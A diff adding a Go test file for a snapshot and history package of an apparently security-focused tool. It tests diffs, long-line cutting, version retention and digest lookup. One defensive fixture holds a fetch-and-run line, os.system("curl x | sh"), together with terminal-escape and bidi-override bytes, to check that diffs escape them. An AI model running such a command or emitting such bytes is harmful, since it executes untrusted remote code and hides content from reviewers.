@@ -1,0 +1,257 @@
+package history
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/skillwire/skillwire/baseline"
+	"github.com/skillwire/skillwire/content"
+	"github.com/skillwire/skillwire/internal/testtree"
+	"github.com/skillwire/skillwire/snapshot"
+	"github.com/skillwire/skillwire/walker"
+)
+
+var must = testtree.Must
+
+func observe(t testing.TB, dir, name string, stage *Stage) walker.Candidate {
+	t.Helper()
+	cfg := walker.DefaultConfig()
+	if stage != nil {
+		cfg.Keep = stage
+	}
+	return walker.Observe(context.Background(), dir, []byte(name), cfg)
+}
+
+func fromStage(s *Stage) Content {
+	return func(h snapshot.Hash) ([]byte, bool, error) { b, ok := s.Get(h); return b, ok, nil }
+}
+
+func TestDiffShowsTheAddedLineAndEscapesAttackerBytes(t *testing.T) {
+	dir := t.TempDir()
+	testtree.Make(t, dir, "old/check.py=import os\nprint(1)\n", "old/gone=bye\n", "old/bin=\x00\x01", "old/run=#!/bin/sh\n")
+	testtree.Make(t, dir, "new/check.py=import os\nprint(1)\nos.system(\"curl x | sh\") # \x1b[2J\u202e\n",
+		"new/n\x1bame=hi\n", "new/bin=\x00\x02", "new/run*=#!/bin/sh\n")
+	s := NewStage(0)
+	a, b := observe(t, dir, "old", s), observe(t, dir, "new", s)
+	ds, err := Diff(&a.Manifest, &b.Manifest, fromStage(s), fromStage(s))
+	must(t, err)
+	byPath := map[string]FileDiff{}
+	for _, d := range ds {
+		byPath[d.Path] = d
+	}
+	mod := byPath["check.py"]
+	if mod.Change != snapshot.Modified || mod.Added != 1 || mod.Deleted != 0 {
+		t.Fatalf("check.py: %+v", mod)
+	}
+	if !strings.Contains(mod.Diff, `+os.system("curl x | sh") # \x1b[2J\u202e`) {
+		t.Fatalf("the added line is not shown escaped:\n%s", mod.Diff)
+	}
+	if strings.ContainsAny(mod.Diff, "\x1b\u202e") {
+		t.Fatal("a raw escape or bidi byte got out")
+	}
+	if d, ok := byPath[`n\x1bame`]; !ok || d.Change != snapshot.Added {
+		t.Fatalf("the added file's path is not escaped: %v", byPath)
+	}
+	if d := byPath["bin"]; !d.Binary || d.Diff != "" {
+		t.Fatalf("binary file: %+v", d)
+	}
+	if d := byPath["gone"]; d.Change != snapshot.Removed || !strings.Contains(d.Diff, "+++ /dev/null") {
+		t.Fatalf("removed file: %+v", d)
+	}
+	if d := byPath["run"]; d.Change != snapshot.ModeChanged || d.Old.Mode != 0o644 || d.New.Mode != 0o755 || d.Diff != "" {
+		t.Fatalf("mode change: %+v", d)
+	}
+	if a, r, m := Stat(ds); a != 1 || r != 1 || m != 3 {
+		t.Fatalf("Stat = %d %d %d", a, r, m)
+	}
+}
+
+func TestDiffCutsLinesOver4KiBWithAMarker(t *testing.T) {
+	dir := t.TempDir()
+	long := strings.Repeat("x", 10<<10)
+	testtree.Make(t, dir, "old/f=short\n", "new/f=short\n"+long+"\n")
+	s := NewStage(0)
+	a, b := observe(t, dir, "old", s), observe(t, dir, "new", s)
+	ds, err := Diff(&a.Manifest, &b.Manifest, fromStage(s), fromStage(s))
+	must(t, err)
+	if len(ds) != 1 || !strings.Contains(ds[0].Diff, CutMarker) {
+		t.Fatalf("no cut marker: %+v", ds)
+	}
+	for _, line := range strings.Split(ds[0].Diff, "\n") {
+		if len(line) > MaxLine+len(CutMarker)+1 {
+			t.Fatalf("a line of %d bytes got through", len(line))
+		}
+	}
+}
+
+func TestDiffOfUnkeptContentSaysSoAndOfCorruptContentFails(t *testing.T) {
+	dir := t.TempDir()
+	testtree.Make(t, dir, "old/f=a\n", "new/f=b\n")
+	s := NewStage(0)
+	a, b := observe(t, dir, "old", nil), observe(t, dir, "new", s)
+	ds, err := Diff(&a.Manifest, &b.Manifest, fromStage(s), fromStage(s))
+	must(t, err)
+	if len(ds) != 1 || !ds[0].Unkept || ds[0].Diff != "" {
+		t.Fatalf("got %+v", ds)
+	}
+	corrupt := func(snapshot.Hash) ([]byte, bool, error) { return nil, false, content.ErrCorrupt }
+	if _, err := Diff(&a.Manifest, &b.Manifest, corrupt, fromStage(s)); !errors.Is(err, content.ErrCorrupt) {
+		t.Fatalf("corrupt object: %v", err)
+	}
+}
+
+func openStore(t *testing.T) (baseline.Options, *baseline.Store) {
+	t.Helper()
+	opts := baseline.Options{Dir: filepath.Join(t.TempDir(), "state"), Create: true, LockTimeout: time.Second}
+	st, err := baseline.Open(opts)
+	must(t, err)
+	t.Cleanup(func() { st.Close() })
+	return opts, st
+}
+
+func keep(t *testing.T, opts baseline.Options, st *baseline.Store, stage *Stage, wants []Want, at time.Time) {
+	t.Helper()
+	p, err := Prepare(opts.Dir, stage, wants, at)
+	must(t, err)
+	must(t, st.Update(p.Record))
+	must(t, p.Close())
+}
+
+func TestKeptVersionIsRestorableOnlyWhenEveryFileIsKeptAndNoAnomaly(t *testing.T) {
+	dir := t.TempDir()
+	testtree.Make(t, dir, "ok/a=alpha", "ok/b=beta", "big/a=alpha", "big/huge=0123456789", "odd/a=alpha", "odd/l -> a")
+	opts, st := openStore(t)
+	stage := NewStage(0)
+	cfg := walker.DefaultConfig()
+	cfg.Keep, cfg.KeepMaxBytes = stage, 6
+	var wants []Want
+	ids := map[string]string{}
+	for _, n := range []string{"ok", "big", "odd"} {
+		c := walker.Observe(context.Background(), dir, []byte(n), cfg)
+		ids[n] = st.ID(dir, []byte(n))
+		wants = append(wants, Want{ID: ids[n], Manifest: &c.Manifest, How: baseline.HowSession})
+	}
+	keep(t, opts, st, stage, wants, time.Now())
+	want := map[string]bool{"ok": true, "big": false, "odd": false}
+	must(t, st.View(func(tx *baseline.Tx) error {
+		for n, id := range ids {
+			vs, err := tx.Versions(id)
+			if err != nil {
+				return err
+			}
+			if len(vs) != 1 || vs[0].Restorable != want[n] {
+				t.Errorf("%s: %+v, want restorable %v", n, vs, want[n])
+			}
+		}
+		return nil
+	}))
+	cs, err := content.Open(opts.Dir, content.Options{})
+	must(t, err)
+	defer cs.Close()
+	for _, e := range wants[0].Manifest.Entries {
+		if e.Kind == snapshot.File {
+			if _, err := cs.Get(e.Hash); err != nil {
+				t.Fatalf("object of %q: %v", e.Path, err)
+			}
+		}
+	}
+}
+
+func TestNothingToKeepWritesNothing(t *testing.T) {
+	opts, _ := openStore(t)
+	p, err := Prepare(opts.Dir, NewStage(0), nil, time.Now())
+	must(t, err)
+	if p.Kept() {
+		t.Fatal("kept something")
+	}
+	must(t, p.Close())
+	if _, err := os.Stat(filepath.Join(opts.Dir, content.ObjectsDir)); !os.IsNotExist(err) {
+		t.Fatalf("an empty keep touched the content store: %v", err)
+	}
+}
+
+func TestRetentionKeepsTheLastTenAndNeverDropsVerdictOrFirstUse(t *testing.T) {
+	dir := t.TempDir()
+	opts, st := openStore(t)
+	id := st.ID(dir, []byte("s"))
+	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+	var digests []snapshot.Hash
+	for i := range 15 {
+		must(t, os.RemoveAll(filepath.Join(dir, "s")))
+		testtree.Make(t, dir, "s/f=version "+string(rune('a'+i)))
+		stage := NewStage(0)
+		c := observe(t, dir, "s", stage)
+		w := Want{ID: id, Manifest: &c.Manifest, How: baseline.HowSession}
+		switch i {
+		case 0:
+			w.How = baseline.HowFirstUse
+		case 1:
+			w.How, w.Verdict = baseline.HowVerdict, baseline.Safe
+		}
+		keep(t, opts, st, stage, []Want{w}, t0.Add(time.Duration(i)*time.Hour))
+		digests = append(digests, c.Digest)
+	}
+	st.Close()
+	got, err := Collect(opts, content.DefaultMaxBytes)
+	must(t, err)
+	if got.Objects != 3 {
+		t.Fatalf("collected %d objects, want 3 (versions 2..4; the protected two count among the last ten)", got.Objects)
+	}
+	st, err = baseline.Open(opts)
+	must(t, err)
+	defer st.Close()
+	must(t, st.View(func(tx *baseline.Tx) error {
+		vs, err := tx.Versions(id)
+		if err != nil {
+			return err
+		}
+		kept := map[snapshot.Hash]bool{}
+		for _, v := range vs {
+			kept[v.Digest] = true
+		}
+		for i, d := range digests {
+			if want := i < 2 || i >= 5; kept[d] != want {
+				t.Errorf("version %d kept=%v, want %v", i, kept[d], want)
+			}
+		}
+		return nil
+	}))
+}
+
+func TestFindTakesADigestOrAUniquePrefix(t *testing.T) {
+	vs := []baseline.Version{{Digest: snapshot.Hash{0xab, 0xcd, 1}}, {Digest: snapshot.Hash{0xab, 0xcd, 2}}, {Digest: snapshot.Hash{0x12}}}
+	for _, tc := range []struct {
+		in   string
+		want int // index, or -1 for no match, -2 for ambiguous
+	}{
+		{vs[2].Digest.String(), 2},
+		{"1200", 2},
+		{"blake3:abcd01", 0},
+		{"abcd", -2},
+		{"ffff", -1},
+		{"ab", -1}, // too short to be a prefix
+	} {
+		t.Run(tc.in, func(t *testing.T) {
+			v, err := Find(vs, tc.in)
+			switch tc.want {
+			case -1:
+				if !errors.Is(err, ErrNoVersion) {
+					t.Fatalf("got %v, %v", v, err)
+				}
+			case -2:
+				if !errors.Is(err, ErrAmbiguous) {
+					t.Fatalf("got %v, %v", v, err)
+				}
+			default:
+				if err != nil || v.Digest != vs[tc.want].Digest {
+					t.Fatalf("got %v, %v", v, err)
+				}
+			}
+		})
+	}
+}
